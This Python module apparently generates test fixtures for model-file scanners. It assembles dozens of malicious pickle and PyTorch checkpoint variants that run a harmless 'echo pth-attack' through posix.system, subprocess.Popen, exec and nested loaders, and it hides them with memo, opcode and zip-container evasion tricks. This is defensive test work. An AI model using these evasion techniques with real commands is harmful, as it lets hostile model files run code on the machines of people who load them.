"""Hostile checkpoints by the tricks that scanners were fooled with: assembled, never loaded here, harmless when they are run by mistake.

Needs neither torch nor a scanner. Every payload would call `print`-like or missing commands only: `echo pth-attack`.
"""
import io
import struct
import zlib

import pickle_assembler as asm
from archive_writer import DEFLATED, Entry, write_entries

COMMAND = "echo pth-attack"
STORAGE = struct.pack("<6f", *range(6))
RECORDS = ("version", b"3\n"), ("byteorder", b"little")


def call(module, name, *arguments, text=asm.text):
    return asm.call(asm.name(module, name), *(text(argument) if isinstance(argument, str) else argument for argument in arguments))


def evil(protocol=2):
    return asm.program(call("posix", "system", COMMAND), protocol=protocol)


def benign_part():
    return asm.dict_of([(asm.text("weight"), asm.tensor(asm.storage("0", 6), (2, 3), (3, 1)))])


def benign():
    return asm.program(benign_part())


def hidden(part):
    """A state_dict whose pickle also makes a call, the result of which is dropped."""
    return asm.program(part, b"0", benign_part())


def entries(pickle, root="archive", storage=STORAGE):
    named = [("data.pkl", pickle), *RECORDS, ("data/0", storage)]
    return [Entry(f"{root}/{name}", data) for name, data in named]


def archive(pickle, **options):
    return write_entries(entries(pickle), **options)


def short_text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def bytes_of(data):
    return (b"C" + bytes([len(data)]) if len(data) < 256 else b"B" + struct.pack("<I", len(data))) + data


def stack_global(module, name):
    return short_text(module) + short_text(name) + b"\x93"


def legacy(pickle):
    magic = asm.program(asm.integer(0x1950A86A20F9469CFC6C))
    system = asm.program(asm.dict_of([(asm.text("little_endian"), asm.TRUE)]))
    return magic + asm.program(asm.integer(1001)) + system + pickle + asm.program(asm.list_of())


def pickles():
    """(name, pickle bytes): tricks inside the pickle; each is put into a torch archive, and stands as a plain file."""
    yield "reduce-system", evil()
    yield "reduce-protocol0", asm.program(b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR", protocol=0)
    yield "inst", asm.program(b"(V" + COMMAND.encode() + b"\niposix\nsystem\n", protocol=0)
    yield "obj", asm.program(b"(" + asm.name("posix", "system") + asm.text(COMMAND) + b"o")
    yield "popped-reduce", hidden(call("posix", "system", COMMAND))
    yield "popped-obj", hidden(b"(" + asm.name("posix", "system") + asm.text(COMMAND) + b"o")
    yield "popped-inst", hidden(b"(" + asm.text(COMMAND) + b"iposix\nsystem\n")
    yield "pop-mark", asm.program(b"(" + call("posix", "system", COMMAND) + b"1", benign_part())
    yield "memo-hidden", asm.program(call("posix", "system", COMMAND), b"q\x07", b"0", benign_part())
    yield "memo-confusion", asm.program(asm.text("collections"), b"q\0", b"0", asm.text("posix"), b"q\0", b"0", b"h\0", asm.text("system"), b"\x93", asm.tuple_of(asm.text(COMMAND)), b"R", protocol=4)
    yield "stack-global", asm.program(frame(stack_global("posix", "system") + asm.tuple_of(short_text(COMMAND)) + b"R"), protocol=4)
    yield "stack-global-memo", asm.program(short_text("posix"), b"\x94", b"0", short_text("system"), b"\x94", b"0", b"h\0", b"h\1", b"\x93", asm.tuple_of(short_text(COMMAND)), b"R", protocol=4)
    yield "stack-global-old-text", asm.program(b"Vposix\n", b"Vsystem\n", b"\x93", asm.tuple_of(asm.text(COMMAND)), b"R", protocol=4)
    yield "stack-global-get-text", asm.program(b"Vposix\np0\n0Vsystem\np1\n0g0\ng1\n\x93", asm.tuple_of(asm.text(COMMAND)), b"R", protocol=4)
    yield "dotted-name", asm.program(stack_global("torch.serialization", "os.system"), asm.tuple_of(short_text(COMMAND)), b"R", protocol=4)
    yield "dotted-utils", asm.program(stack_global("torch._utils", "sys.modules"), protocol=4)
    yield "submodule", asm.program(call("asyncio.unix_events", "_UnixSubprocessTransport._start", COMMAND))
    yield "submodule-subprocess", asm.program(call("multiprocessing.util", "spawnv_passfds", COMMAND))
    yield "module-of-module", asm.program(call("torch.serialization", "os", COMMAND))
    yield "getattr-chain", asm.program(asm.call(call_of("builtins", "getattr", call("builtins", "__import__", "os"), asm.text("system")), asm.text(COMMAND)), protocol=3)
    yield "getattr-python2", asm.program(asm.call(call_of("__builtin__", "getattr", call("__builtin__", "__import__", "os"), asm.text("system")), asm.text(COMMAND)))
    yield "attrgetter", asm.program(asm.call(asm.call(call("operator", "attrgetter", "system"), call("builtins", "__import__", "os")), asm.text(COMMAND)))
    yield "attrgetter-c", asm.program(asm.call(asm.call(call("_operator", "attrgetter", "system"), call("importlib", "import_module", "os")), asm.text(COMMAND)))
    yield "methodcaller", asm.program(asm.call(call("operator", "methodcaller", "system", COMMAND), call("importlib", "import_module", "os")))
    yield "partial", asm.program(asm.call(call_of("functools", "partial", asm.name("posix", "system"), asm.text(COMMAND))))
    yield "map", asm.program(call_of("builtins", "list", call_of("builtins", "map", asm.name("posix", "system"), asm.list_of(asm.text(COMMAND)))), protocol=3)
    yield "reduce-of-reduce", asm.program(call_of("functools", "reduce", asm.name("builtins", "getattr"), asm.list_of(asm.name("os", "path"), asm.text("os"))), protocol=3)
    yield "defaultdict", asm.program(call_of("collections", "defaultdict", asm.name("os", "getpid")))
    yield "exec", asm.program(call("builtins", "exec", "print('pth-attack')"), protocol=3)
    yield "eval-python2", asm.program(call("__builtin__", "eval", "print('pth-attack')"))
    yield "runpy", asm.program(call("runpy", "_run_code", "print('pth-attack')"))
    yield "commands", asm.program(call("commands", "getoutput", COMMAND))
    yield "nested-loads", asm.program(call("_pickle", "loads", bytes_of(evil(4))), protocol=4)
    yield "nested-loads-python2", asm.program(call("cPickle", "loads", asm.old_text(evil(0))))
    yield "nested-dill", asm.program(call("dill", "loads", bytes_of(evil(4))), protocol=4)
    yield "nested-cloudpickle", asm.program(call("cloudpickle.cloudpickle", "_make_function", bytes_of(b"\0")), protocol=4)
    yield "nested-code", asm.program(call("types", "CodeType", "x"), protocol=4)
    yield "nested-function", asm.program(call("types", "FunctionType", "x"), protocol=4)
    yield "load-from-bytes", asm.program(call("torch.storage", "_load_from_bytes", bytes_of(legacy(evil()))), protocol=4)
    yield "load-from-bytes-zip", asm.program(call("torch.storage", "_load_from_bytes", bytes_of(archive(evil()))), protocol=4)
    yield "load-from-bytes-encoded", asm.program(call("torch.storage", "_load_from_bytes", call_of("_codecs", "encode", asm.text(legacy(evil()).decode("latin1")), asm.text("latin1"))))
    yield "load-from-bytes-twice", asm.program(call("torch.storage", "_load_from_bytes", bytes_of(legacy(asm.program(call("torch.storage", "_load_from_bytes", bytes_of(legacy(evil()))), protocol=4)))), protocol=4)
    yield "basichandlers", asm.program(call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", bytes_of(evil(4))), protocol=4)
    yield "torch-load", asm.program(asm.call(asm.name("torch.serialization", "load"), call("io", "BytesIO", bytes_of(legacy(evil())))), protocol=4)
    yield "second-pickle", benign() + evil()
    yield "second-pickle-protocol0", benign() + asm.program(b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR", protocol=0)
    yield "third-pickle", benign() + benign() + evil()
    yield "first-then-junk", evil() + b"\0\1\2 not a pickle"
    yield "broken-after-call", asm.program(call("posix", "system", COMMAND))[:-1] + b"\xff"
    yield "cut-after-call", asm.program(call("posix", "system", COMMAND))[:-1]
    yield "underflow-after-call", asm.program(call("posix", "system", COMMAND), b"000")
    yield "build-class", asm.program(asm.name("torch", "Tensor"), asm.dict_of([(asm.text("__reduce__"), asm.name("posix", "system"))]), b"b")
    yield "newobj", asm.program(asm.name("subprocess", "Popen"), asm.tuple_of(asm.text(COMMAND)), b"\x81")
    yield "newobj-ex", asm.program(stack_global("subprocess", "Popen"), asm.tuple_of(short_text(COMMAND)), asm.EMPTY_DICT, b"\x92", protocol=4)
    yield "copyreg-newobj", asm.program(call_of("copyreg", "__newobj__", asm.name("subprocess", "Popen"), asm.text(COMMAND)), protocol=3)
    yield "persistent-id", asm.program(call("posix", "system", COMMAND), b"Q")
    yield "as-key", asm.program(asm.EMPTY_DICT, call("posix", "system", COMMAND), b"Ns")
    yield "webbrowser", asm.program(call("webbrowser", "open", "http://127.0.0.1:9/"))
    yield "socket", asm.program(call("socket", "create_connection", "127.0.0.1"))
    yield "ctypes", asm.program(call("ctypes", "CDLL", "nothing"))
    yield "file-read", asm.program(call("_io", "FileIO", "/nonexistent"))
    yield "pip-main", asm.program(call("pip", "main", "--version"))
    yield "numpy-runstring", asm.program(call("numpy.testing._private.utils", "runstring", "x"))
    yield "torch-hub", asm.program(call("torch.hub", "load", "none"))
    yield "memo-overwritten", asm.program(asm.name("collections", "OrderedDict"), b"q\0", b"0", asm.name("posix", "system"), b"q\0", b"0", b"h\0", asm.tuple_of(asm.text(COMMAND)), b"R")
    yield "memoize-after-put", asm.program(short_text("posix"), b"q\5", b"0", short_text("json"), b"\x94", b"0", short_text("system"), b"\x94", b"0", b"h\5", b"h\2", b"\x93", asm.tuple_of(short_text(COMMAND)), b"R", protocol=4)
    yield "whole-module-builtins", asm.program(call("builtins", "run", COMMAND), protocol=3)
    yield "whole-module-functools", asm.program(call("functools", "lru_cache", COMMAND), protocol=3)
    yield "whole-module-types", asm.program(call("types", "run", COMMAND), protocol=3)
    yield "module-in-module", asm.program(asm.call(call_of("builtins", "getattr", asm.name("random", "_os"), asm.text("system")), asm.text(COMMAND)), protocol=3)
    yield "globals-of-rebuild", asm.program(stack_global("torch._utils", "_rebuild_tensor.__globals__"), protocol=4)
    yield "import-dotted-name", asm.program(call("torch._utils", "_import_dotted_name", "posix.system"))
    yield "exec-of-graph", asm.program(call("torch.fx.graph_module", "_exec_with_source", "print('pth-attack')"))
    yield "tcl", asm.program(call("tkinter", "Tcl"))
    yield "from-type-load", asm.program(call_of("torch._tensor", "_rebuild_from_type_v2", asm.name("torch.storage", "_load_from_bytes"), asm.name("torch", "Tensor"), asm.tuple_of(bytes_of(legacy(evil()))), asm.EMPTY_DICT), protocol=4)
    yield "from-type-getattr", asm.program(call_of("torch._tensor", "_rebuild_from_type_v2", call_of("builtins", "getattr", asm.name("torch", "serialization"), asm.text("os")), asm.name("torch", "Tensor"), asm.tuple_of(asm.text(COMMAND)), asm.EMPTY_DICT))
    yield "load-of-unpacked-bytes", asm.program(call_of("torch.storage", "_load_from_bytes", call_of("zlib", "decompress", bytes_of(zlib.compress(legacy(evil()))))), protocol=4)
    yield "module-by-persistent-id", asm.program(asm.tuple_of(asm.text("module"), asm.name("posix", "system"), asm.text("a.py"), asm.text("")), b"Q", asm.tuple_of(asm.text(COMMAND)), b"R")
    yield "magic-by-call", asm.program(call("builtins", "eval", "0x1950A86A20F9469CFC6C")) + asm.program(asm.integer(1001)) + asm.program(asm.dict_of([])) + benign() + asm.program(asm.list_of())


def call_of(module, name, *parts):
    return asm.call(asm.name(module, name), *parts)


def archives():
    """(name, suffix, file bytes): tricks of the container around an evil pickle."""
    evil_entries = entries(evil())
    yield "zip-plain", ".pth", archive(evil())
    for bit in (0x1, 0x20, 0x40, 0x2000):
        yield f"zip-flag-{bit:#x}", ".pth", flagged(archive(evil()), bit, local=True, central=True)
        yield f"zip-flag-central-{bit:#x}", ".pth", flagged(archive(evil()), bit, local=False, central=True)
        yield f"zip-flag-local-{bit:#x}", ".pth", flagged(archive(evil()), bit, local=True, central=False)
    yield "zip-local-name", ".pth", write_entries([replace(entry, local_name="archive/data/9" if entry.name.endswith(".pkl") else None) for entry in evil_entries])
    yield "zip-local-method", ".pth", write_entries([replace(entry, local_method=99 if entry.name.endswith(".pkl") else None) for entry in evil_entries])
    yield "zip-crc", ".pth", write_entries([replace(entry, crc=0x12345678) for entry in evil_entries])
    yield "zip-crc-zero", ".pth", write_entries([replace(entry, crc=0) for entry in evil_entries])
    yield "zip-deflated", ".pth", write_entries([replace(entry, method=DEFLATED) for entry in evil_entries])
    yield "zip-duplicate-first-benign", ".pth", write_entries(entries(benign()) + [Entry("archive/data.pkl", evil())])
    yield "zip-duplicate-first-evil", ".pth", write_entries(evil_entries + [Entry("archive/data.pkl", benign())])
    yield "zip-duplicate-case", ".pth", write_entries(entries(benign()) + [Entry("archive/DATA.PKL", evil())])
    yield "zip-two-roots", ".pth", write_entries(entries(benign()) + entries(evil(), root="other"))
    yield "zip-other-pkl", ".pth", write_entries(entries(benign()) + [Entry("archive/extra.pkl", evil())])
    yield "zip-misnamed", ".pth", write_entries(entries(benign()) + [Entry("archive/notes.bin", evil())])
    yield "zip-inner-zip", ".pth", write_entries(entries(benign()) + [Entry("archive/inner.pth", archive(evil()))])
    yield "zip-comment-end", ".pth", archive(evil(), comment=archive(benign())[-22:])
    yield "zip-leading-data", ".pth", b"#!/bin/sh\n" + archive(evil())
    yield "zip-trailing-data", ".pth", archive(evil()) + b"\0" * 100
    yield "zip-hidden-before-legacy", ".pth", legacy(benign()) + archive(evil())
    yield "legacy-before-zip", ".pth", legacy(evil()) + archive(benign())
    for suffix in (".bin", ".zip", ".png", ".dat", ".ckpt", ".model", ""):
        yield "zip-suffix" + suffix, suffix, archive(evil())
    yield "legacy", ".pth", legacy(evil())
    yield "legacy-in-magic", ".pth", legacy(benign())[:0] + asm.program(call("posix", "system", COMMAND)) + legacy(benign())
    old = b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR."
    for odd in (".data/notes", "extra/notes", "data/notes", "constants.pkl", "data.pkl.bak", "folder/", "array.npy", "notes.pkl\0.txt"):
        label = odd.replace("/", "-").replace("\0", "-nul-")
        yield f"zip-odd-name-{label}", ".pth", write_entries(entries(benign()) + [Entry(f"archive/{odd}", evil())])
        yield f"zip-odd-name-old-{label}", ".pth", write_entries(entries(benign()) + [Entry(f"archive/{odd}", old)])
    yield "zip-nested-three-deep", ".pth", write_entries(entries(benign()) + [Entry("archive/a.bin", write_entries([Entry("b.bin", write_entries([Entry("c.bin", archive(evil()))]))]))])
    yield "script-opens-file", ".pt", write_entries(script("    torch.save(x, \"pth-attack\")\n    return x\n"))
    yield "script-reads-file", ".pt", write_entries(script("    return torch.from_file(\"pth-attack\", False, 4)\n"))
    yield "legacy-in-system", ".pth", asm.program(asm.integer(0x1950A86A20F9469CFC6C)) + asm.program(asm.integer(1001)) + evil() + benign() + asm.program(asm.list_of())
    yield "legacy-in-keys", ".pth", legacy(benign())[: -len(asm.program(asm.list_of()))] + evil()
    yield "npy-object", ".npz", write_entries([Entry("a.npy", npy_objects(evil(4)))])


def script(body):
    """TorchScript whose forward has this body."""
    code = "class M(Module):\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n" + body
    module = asm.program(asm.name("__torch__", "M") + asm.EMPTY_TUPLE + asm.NEWOBJ + asm.EMPTY_DICT + asm.BUILD)
    named = [("data.pkl", module), ("constants.pkl", asm.program(asm.EMPTY_TUPLE)), ("version", b"3\n"), ("code/__torch__.py", code.encode())]
    return [Entry(f"model/{name}", data) for name, data in named]


def npy_objects(pickle):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickle


def replace(entry, **fields):
    return Entry(**{**entry.__dict__, **fields})


def flagged(data, bit, local, central):
    out = bytearray(data)
    for signature, offset, wanted in ((b"PK\3\4", 6, local), (b"PK\1\2", 8, central)):
        at = out.find(signature)
        while wanted and at >= 0:
            (flags,) = struct.unpack_from("<H", out, at + offset)
            struct.pack_into("<H", out, at + offset, flags | bit)
            at = out.find(signature, at + 4)
    return bytes(out)


def all_attacks():
    """(name, suffix, file bytes) of every attack: pickles bare, in an archive and in a stream, then the archives."""
    for name, pickle in pickles():
        yield f"pickle-{name}", ".pkl", pickle
        yield f"torch-{name}", ".pth", archive(pickle)
    yield from archives()
